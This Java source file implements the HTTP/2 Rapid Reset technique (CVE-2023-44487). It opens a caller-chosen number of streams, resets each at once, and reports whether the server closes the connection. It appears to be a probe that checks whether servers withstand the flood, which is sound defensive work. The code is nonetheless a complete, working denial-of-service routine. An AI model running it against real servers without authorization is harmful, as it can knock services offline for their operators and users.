package io.penstock.api;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.io.EOFException;
import java.io.IOException;
import java.net.Socket;
import java.net.SocketException;
import java.nio.charset.StandardCharsets;

/// A client of HTTP/2 that begins requests and resets each at once (CVE-2023-44487), frame by frame
/// as RFC 9113 has them.
public final class RapidReset {
    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int GOAWAY = 7;
    private static final int ACK = 1;
    private static final int END_HEADERS = 4;
    private static final int CANCEL = 8;

    private RapidReset() {}

    /// @param socket connected, and about to speak HTTP/2; closed afterwards
    /// @param most requests to begin, of which some wait for nothing
    /// @return whether the server closes the connection meanwhile
    public static boolean isStopped(Socket socket, String scheme, String path, int most) throws IOException {
        try (socket) {
            socket.setSoTimeout(20_000);
            DataOutputStream out = new DataOutputStream(socket.getOutputStream());
            try {
                out.write(PREFACE);
                frame(out, SETTINGS, 0, 0, new byte[0]);
                byte[] headers = headers(scheme, path);
                for (int i = 0; i < most; i++) {
                    int stream = 2 * i + 1;
                    ByteArrayOutputStream pair = new ByteArrayOutputStream();
                    DataOutputStream both = new DataOutputStream(pair);
                    frame(both, HEADERS, END_HEADERS, stream, headers);
                    frame(both, RST_STREAM, 0, stream, new byte[] {0, 0, 0, CANCEL});
                    out.write(pair.toByteArray());
                }
                // Answered by who is still there.
                frame(out, PING, 0, 0, new byte[8]);
                out.flush();
            } catch (SocketException closed) {
                return true;
            }
            return goesAway(new DataInputStream(socket.getInputStream()));
        }
    }

    /// Reads up to the end of the connection, a GOAWAY, or the answer to the ping.
    private static boolean goesAway(DataInputStream in) throws IOException {
        try {
            while (true) {
                int length = in.readUnsignedByte() << 16 | in.readUnsignedShort();
                int type = in.readUnsignedByte();
                int flags = in.readUnsignedByte();
                in.readInt();
                in.skipNBytes(length);
                if (type == GOAWAY) {
                    return true;
                }
                if (type == PING && flags == ACK) {
                    return false;
                }
            }
        } catch (EOFException | SocketException closed) {
            return true;
        }
    }

    private static void frame(DataOutputStream out, int type, int flags, int stream, byte[] payload)
            throws IOException {
        out.writeByte(payload.length >> 16);
        out.writeShort(payload.length);
        out.writeByte(type);
        out.writeByte(flags);
        out.writeInt(stream);
        out.write(payload);
    }

    /// Literals that are not indexed, without Huffman coding (RFC 7541, 6.2.2).
    private static byte[] headers(String scheme, String path) {
        String[] fields = {
            ":method",
            "POST",
            ":scheme",
            scheme,
            ":path",
            path,
            ":authority",
            "localhost",
            "content-type",
            "application/grpc",
            "te",
            "trailers"
        };
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        for (int i = 0; i < fields.length; i += 2) {
            block.write(0);
            for (String text : new String[] {fields[i], fields[i + 1]}) {
                byte[] bytes = text.getBytes(StandardCharsets.US_ASCII);
                block.write(bytes.length);
                block.writeBytes(bytes);
            }
        }
        return block.toByteArray();
    }
}
